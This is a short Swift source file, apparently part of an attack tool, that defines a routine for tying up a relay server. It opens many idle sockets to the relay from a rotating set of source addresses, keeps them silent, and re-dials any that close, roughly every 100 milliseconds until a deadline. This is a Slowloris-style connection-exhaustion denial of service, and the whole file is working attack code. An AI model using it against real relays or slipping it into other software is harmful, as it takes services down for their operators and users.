import BaseKit
import Glibc
import SMP

/// Sockets from several addresses that say nothing; those that are closed are opened again.
struct SilentSockets: Sendable {
    let relay: RelayAddress
    let count: Int

    func hold(until end: Instant) async {
        var open = [Int32](repeating: -1, count: count)
        while .now < end {
            for index in open.indices where .now < end {
                if open[index] >= 0, isOpen(open[index]) { continue }
                if open[index] >= 0 { close(open[index]) }
                open[index] = RawSocket.dial(relay, from: Attack.addresses[index % Attack.addresses.count]) ?? -1
            }
            try? await Task.sleep(for: .milliseconds(100))
        }
        for descriptor in open where descriptor >= 0 { close(descriptor) }
    }

    /// Nothing has come but what keeps it open.
    private func isOpen(_ descriptor: Int32) -> Bool {
        var byte: UInt8 = 0
        let result = recv(descriptor, &byte, 1, Int32(MSG_DONTWAIT | MSG_PEEK))
        return result > 0 || (result < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
    }
}
